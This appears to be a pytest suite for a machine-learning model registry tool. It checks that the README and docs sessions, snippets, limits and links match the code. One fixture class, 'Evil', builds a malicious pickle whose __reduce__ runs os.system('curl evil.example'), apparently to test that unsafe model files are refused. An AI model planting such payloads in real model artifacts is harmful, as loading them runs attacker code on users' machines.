"""What the documents show is what happens: their sessions are run, their snippets loaded, their links followed."""

from __future__ import annotations

import os
import pickle
import re
import shutil
import subprocess
import sys
from pathlib import Path

import boto3
import pytest
import skops.io
import yaml
from sklearn.linear_model import LogisticRegression

from artreg.core.config import parse_config
from artreg.core.gates import KINDS
from artreg.core.policy import parse_policy
from artreg.errors import EXIT_CODES
from artreg.yamldoc import parse_yaml
from docs.sessions import ROOT, blocks, environment, play, read, shell
from keys import needs_openssh


@pytest.fixture(scope="module")
def trained(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder as a newcomer has it, with the data made."""
    folder = tmp_path_factory.mktemp("checkout")
    shutil.copytree(ROOT / "configs", folder / "configs")
    for name in ("pyproject.toml", "uv.lock"):
        shutil.copy(ROOT / name, folder)
    (folder / "registry").mkdir()
    shell("artreg data churn", folder, environment())
    return folder


@pytest.mark.slow
def test_the_sessions_of_the_readme(trained: Path, moto_endpoint: str) -> None:
    sessions = blocks("README.md", "console")
    on_disk = [session for session in sessions if "s3://" not in session]
    in_bucket = [session for session in sessions if "s3://" in session]
    assert play(on_disk, trained, environment()) >= 12
    bucket = boto3.resource("s3", endpoint_url=moto_endpoint).create_bucket(Bucket="models")
    bucket.objects.all().delete()  # other pages have one of that name, too
    credentials = {name: value for name, value in os.environ.items() if name.startswith("AWS_")}
    assert play(in_bucket, trained, environment(**credentials, AWS_ENDPOINT_URL=moto_endpoint)) >= 4


@pytest.mark.slow  # it needs nothing but time
def test_the_sessions_about_reproducing(trained: Path, tmp_path: Path) -> None:
    checkout = shutil.copytree(trained, tmp_path / "checkout", ignore=shutil.ignore_patterns("registry"))
    (checkout / "registry").mkdir()
    (checkout / ".gitignore").write_text("data/\nregistry/\n*.csv\n*.json\n")
    commit = "git init -q && git add . && git -c user.name=ada -c user.email=ada@example.org commit -q -m 'a model'"
    assert shell(commit, checkout, environment()) == ""
    assert read("docs/reproducing.md", checkout, environment()) >= 12


@needs_openssh
@pytest.mark.slow  # it needs nothing but time
def test_the_sessions_about_signatures(tmp_path: Path) -> None:
    assert read("docs/signatures.md", tmp_path, environment()) >= 35
    (policy,) = blocks("docs/signatures.md", "yaml")
    assert [gate.gate for gate in parse_policy(yaml.safe_load(policy)).aliases["prod"].gates] == ["signed"]


def test_each_attacker_is_held_to_what_tests_show() -> None:
    table = (ROOT / "docs/signatures.md").read_text().partition("| attacker | can | cannot |\n")[2].partition("\n\n")[0]
    rows = [line.strip("|").split("|") for line in table.splitlines()[1:]]
    assert [row[0].strip() for row in rows] == ["reader", "publisher", "promoter", "owner of the bucket", "network"]
    written = {
        name
        for path in (ROOT / "tests").rglob("test_*.py")
        for name in re.findall(r"^def (test_\w+)\(", path.read_text(), re.MULTILINE)
    }
    for who, *cells in rows:
        assert len(cells) == 2
        for claim in (claim for cell in cells for claim in re.split(r";|(?<=\)), or", cell)):
            named = re.findall(r"`(test_\w+)`", claim)
            assert named, f"{who}: no test shows that they {claim}"
            assert set(named) <= written, claim


@pytest.mark.slow
def test_the_sessions_about_loading(trained: Path, tmp_path: Path) -> None:
    place = shutil.copytree(trained, tmp_path / "place", ignore=shutil.ignore_patterns("registry"))
    (place / "registry").mkdir()
    (place / "evil").mkdir()
    (place / "evil" / "model.joblib").write_bytes(pickle.dumps(Evil(), 2))
    for command in (
        "artreg train -c configs/logistic.yaml --set name=churn",
        "artreg promote churn 1.0.0 --to staging",
        "artreg promote churn 1.0.0 --to prod",
        "artreg publish evil --model churn --version 2.0.0",
    ):
        assert "[exit" not in shell(command, place, environment())
    assert read("docs/loading.md", place, environment()) == 3
    (snippet,) = blocks("docs/loading.md", "python")
    printed = subprocess.run([sys.executable, "-c", snippet], cwd=place, capture_output=True, text=True, check=True)
    assert re.fullmatch(r"demo/churn@1\.0\.0 \[0\.\d+ +0\.\d+ +0\.\d+ *\]\n", printed.stdout), printed


class Evil:
    def __reduce__(self) -> tuple[object, ...]:
        return os.system, ("curl evil.example",)


def test_the_limits_of_the_documentation() -> None:
    from artreg.inspection import limits, pickles
    from artreg.registry.contents import IN_MEMORY

    text = (ROOT / "docs" / "loading.md").read_text()
    for shown in (
        f"up to {IN_MEMORY // 2**20} MiB in memory",
        f"{limits.RATIO} times its size, or {limits.UNPACKED_AT_LEAST // 2**20} MiB if that is more;"
        f" {limits.UNPACKED // 2**30} GiB",
        f"{limits.MEMBERS:,}; {limits.DIRECTORY // 2**20} MiB",
        f"{limits.SCHEMA // 2**20} MiB, {limits.PARTS:,} parts, {limits.DEPTH} levels",
        f"{limits.ARRAY_HEADER:,} bytes; exactly",
        f"{limits.TENSORS:,}; without gaps",
        f"{pickles.OPERATIONS:,} |",
    ):
        assert shown in text, shown


@pytest.mark.slow
def test_the_sessions_about_backups(tmp_path: Path) -> None:
    (tmp_path / "registry").mkdir()
    (tmp_path / "made").mkdir()
    (tmp_path / "made" / "metrics.json").write_text('{"roc_auc": 0.9}')
    for version in ("1.0.0", "1.1.0"):
        (tmp_path / "made" / "model.txt").write_text(f"{version}\n")
        for command in (f"publish made --model churn --version {version}", f"promote churn {version} --to staging"):
            assert "[exit" not in shell(f"artreg {command}", tmp_path, environment())
    assert read("docs/backup.md", tmp_path, environment()) >= 9


@pytest.mark.slow  # it needs nothing but time
def test_the_sessions_about_pinning(tmp_path: Path) -> None:
    (tmp_path / "registry").mkdir()
    (tmp_path / "made").mkdir()
    (tmp_path / "made" / "metrics.json").write_text('{"roc_auc": 0.9}')
    variables = environment(ARTREG_ACTOR="ada")
    for version in ("1.0.0", "1.1.0"):
        (tmp_path / "made" / "model.txt").write_text(f"{version}\n")
        for command in (f"publish made --model churn --version {version}", f"promote churn {version} --to staging"):
            assert "[exit" not in shell(f"artreg {command}", tmp_path, variables)
        if version == "1.0.0":
            assert "[exit" not in shell("artreg promote churn 1.0.0 --to prod", tmp_path, variables)
    assert read("docs/pinning.md", tmp_path, variables) >= 11
    variables["ARTREG_CACHE"] = str(tmp_path / "cache")
    snippets = {
        "1.1.0 1.1.0\n\n": blocks("docs/pinning.md", "python"),
        "0.9\n0.9\n": blocks("docs/filesystem.md", "python"),
    }
    for printed, (snippet,) in snippets.items():
        words = [sys.executable, "-W", "ignore::UserWarning", "-c", snippet]
        done = subprocess.run(words, cwd=tmp_path, env=variables, capture_output=True, text=True, check=True)
        assert done.stdout == printed


@pytest.mark.slow  # it needs nothing but time
def test_the_sessions_about_pages(tmp_path: Path) -> None:
    (tmp_path / "registry").mkdir()
    (tmp_path / "made").mkdir()
    (tmp_path / "made" / "metrics.json").write_text('{"roc_auc": 0.9}')
    (tmp_path / "made" / "model.txt").write_text("a model\n")
    for model in ("churn", "risk/score"):
        assert "[exit" not in shell(f"artreg publish made --model {model} --version 1.0.0", tmp_path, environment())
    assert read("docs/site.md", tmp_path, environment()) == 2
    (snippet,) = blocks("docs/site.md", "python")
    words = [sys.executable, "-c", snippet]
    done = subprocess.run(words, cwd=tmp_path, env=environment(), capture_output=True, text=True, check=True)
    assert done.stdout == "2 2 ()\n"


@pytest.mark.slow  # it needs nothing but time
def test_the_sessions_about_pulling(tmp_path: Path) -> None:
    (tmp_path / "registry").mkdir()
    (tmp_path / "made").mkdir()
    (tmp_path / "made" / "metrics.json").write_text('{"roc_auc": 0.9}')
    (tmp_path / "made" / "model.txt").write_text("a model\n")
    for command in ("publish made --model churn --version 1.0.0", "promote churn 1.0.0 --to staging"):
        assert "[exit" not in shell(f"artreg {command}", tmp_path, environment())
    assert read("docs/pulling.md", tmp_path, environment()) >= 5
    (snippet,) = blocks("docs/pulling.md", "python")
    subprocess.run([sys.executable, "-c", snippet], cwd=tmp_path, env=environment(), check=True)


@pytest.mark.slow
def test_the_trainer_of_the_documentation(trained: Path, tmp_path: Path) -> None:
    (snippet,) = blocks("docs/trainers.md", "python")
    place = shutil.copytree(trained, tmp_path / "place", ignore=shutil.ignore_patterns("registry"))
    (place / "registry").mkdir()
    (place / "mine.py").write_text(snippet)
    config = {
        "trainer": {"kind": "mine:fit", "trees": 20},
        "data": {"path": "data/churn.csv", "id_column": "customer_id", "target": "churned"},
    }
    (place / "mine.yaml").write_text(yaml.safe_dump(config))
    assert "published demo/churn@1.0.0" in shell("artreg train -c mine.yaml", place, environment())


def test_the_python_of_the_readme(
    trained: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    made = trained / "made"
    made.mkdir()
    skops.io.dump(LogisticRegression().fit([[0.0], [1.0]], [0, 1]), made / "model.skops")
    (made / "metrics.json").write_text('{"roc_auc": 0.9}')
    (trained / "other").mkdir()
    for command in (
        "publish made --model churn --version 9.0.0",
        "promote churn 9.0.0 --to staging",
        "promote churn 9.0.0 --to prod",
    ):
        assert "[exit" not in shell(f"artreg {command} --registry other", trained, environment())
    (snippet,) = blocks("README.md", "python")
    code = snippet.replace('"registry"', '"other"', 1) + "\nprint(version, who)"
    monkeypatch.chdir(trained)
    monkeypatch.setenv("ARTREG_CACHE", str(trained / "cache"))
    exec(compile(code, "README.md", "exec"), {})
    assert capsys.readouterr().out.startswith("9.0.0 [")


def test_the_configs_of_the_readme() -> None:
    documents = [yaml.safe_load(block) for block in blocks("README.md", "yaml")]
    policies = [parse_policy(document) for document in documents if "aliases" in document]
    configs = [parse_config(document) for document in documents if "data" in document]
    assert (len(policies), len(configs)) == (1, 1)


def test_the_exit_codes_of_the_readme() -> None:
    shown = set(re.findall(r"\| (\d+) \|", (ROOT / "README.md").read_text()))
    assert shown == {"0", *map(str, EXIT_CODES.values())}


def test_the_readme_names_every_target_of_the_makefile() -> None:
    targets = set(re.findall(r"^([a-z0-9-]+):.*##", (ROOT / "Makefile").read_text(), re.MULTILINE))
    named = set(re.findall(r"(?:`|^)make ([a-z0-9-]+)", (ROOT / "README.md").read_text(), re.MULTILINE))
    assert named <= targets
    assert targets - named <= {"help", "setup", "data"}


@pytest.mark.parametrize("document", sorted(ROOT.glob("*.md")), ids=lambda path: path.name)
def test_links_lead_somewhere(document: Path) -> None:
    for target in re.findall(r"\]\(([^)#]+)[^)]*\)", document.read_text()):
        assert target.startswith("https://") or (document.parent / target).exists(), target


GATE_ROW = re.compile(r"^\| `(?P<kind>\w+)` \| (?P<asks>[^|]+) \| `(?P<example>\{gate: [^`]*\})` \|$", re.MULTILINE)


def test_the_gates_of_the_readme() -> None:
    section = (ROOT / "README.md").read_text().partition("\n## The policy\n")[2].partition("\n## ")[0]
    rows = [(row["kind"], parse_yaml(row["example"].encode(), row["kind"])) for row in GATE_ROW.finditer(section)]
    assert len(rows) == section.count("| `{gate: "), "a row is not written as the others are"
    for kind, example in rows:
        policy = parse_policy({"aliases": {"staging": {}, "prod": {"gates": [example]}}}, kind)
        assert [gate.gate for gate in policy.aliases["prod"].gates] == [kind]
    assert sorted(kind for kind, _ in rows) == sorted(KINDS)


def test_the_figures_of_reliability_name_commands_that_are_there() -> None:
    text = (ROOT / "docs" / "reliability.md").read_text()
    named = set(re.findall(r"(?:tests|scripts)/[\w/.]+\w", text))
    assert len(named) >= 15
    assert [name for name in sorted(named) if not (ROOT / name).exists()] == []
    assert "@" not in text.replace("churn@", "")
